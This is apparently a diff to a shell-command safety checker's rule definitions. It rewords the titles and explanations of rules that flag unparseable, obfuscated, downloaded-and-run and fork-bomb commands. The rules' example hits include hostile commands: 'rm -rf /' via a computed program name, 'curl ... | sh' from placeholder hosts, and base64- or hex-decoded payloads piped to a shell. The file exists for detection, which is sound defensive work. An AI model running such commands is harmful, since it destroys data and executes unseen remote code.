@@ -7,7 +7,7 @@ export const UNPARSEABLE = rule({
   title: "Invalid shell",
   weight: [3, 4],
   threat: "unreadable_command",
-  explanation: "The command is not valid shell, so what it would do cannot be told.",
+  explanation: "The command is not valid shell, so its effect cannot be known.",
   safer: "Check the quotes and brackets, or split the command into simple ones.",
   hits: ['echo "unclosed', "if true; then"],
   misses: ['echo "closed"', "if true; then echo yes; fi"],
@@ -16,10 +16,10 @@ export const UNPARSEABLE = rule({
 /** The command exceeds the limits of an inspection. */
 export const OVER_BUDGET = rule({
   id: "structure.over_budget",
-  title: "Too long or too tangled",
+  title: "Exceed the limits of an inspection",
   weight: [3, 4],
   threat: "unreadable_command",
-  explanation: "The command is too long, too deeply nested or too tangled to be judged.",
+  explanation: "The command is too long, too deeply nested or too complex to be judged.",
   safer: "Split it into shorter commands, or put it into a reviewed script.",
   hits: [
     "((((((((((((((((((((((((((((((((((((((((ls))))))))))))))))))))))))))))))))))))))))",
@@ -34,7 +34,7 @@ export const HIDDEN_PROGRAM = rule({
   title: "Compute the program's name",
   weight: [3, 3],
   threat: "obfuscation",
-  explanation: "The name of the program is computed, so what would run cannot be told.",
+  explanation: "The program's name is computed, so the program cannot be known.",
   safer: "Write the program's name out.",
   hits: ["/???/r? -rf /", "$PROGRAM -rf /"],
   misses: ["P=ls; $P -la", "/usr/bin/ls -la"],
@@ -55,10 +55,10 @@ export const UNSEEN_CODE = rule({
 /** A shell or interpreter runs what came over the network. */
 export const DOWNLOADED_CODE = rule({
   id: "network.downloaded_code",
-  title: "Run what was just downloaded",
+  title: "Run a download at once",
   weight: [5, 4],
   threat: "remote_code_execution",
-  explanation: "Something downloaded would run at once, unseen and unchecked.",
+  explanation: "It runs a download at once, before anybody has seen or checked it.",
   safer: "Download it to a file, check its content and checksum, then run it.",
   hits: ["curl https://x.example/i.sh | sh", "bash <(curl -fsSL http://203.0.113.9/p)"],
   misses: [
@@ -73,8 +73,8 @@ export const DECODED_CODE = rule({
   title: "Run decoded code",
   weight: [5, 4],
   threat: "obfuscation",
-  explanation: "Encoded text would be decoded and run, which hides what it does.",
-  safer: "Send the commands in clear.",
+  explanation: "It decodes text and runs it, which hides the commands.",
+  safer: "Send the commands unencoded.",
   hits: ["base64 -d payload.txt | sh", 'eval "$(xxd -r -p payload.hex)"'],
   misses: ["echo aGVsbG8= | base64 -d", "base64 -d token.txt"],
 });
@@ -82,7 +82,7 @@ export const DECODED_CODE = rule({
 /** A function starts copies of itself in the background without end. */
 export const FORK_BOMB = rule({
   id: "services.fork_bomb",
-  title: "Start copies without end",
+  title: "Start a fork bomb",
   weight: [5, 4],
   threat: "denial_of_service",
   explanation: "A fork bomb: it starts copies of itself until the machine stops answering.",
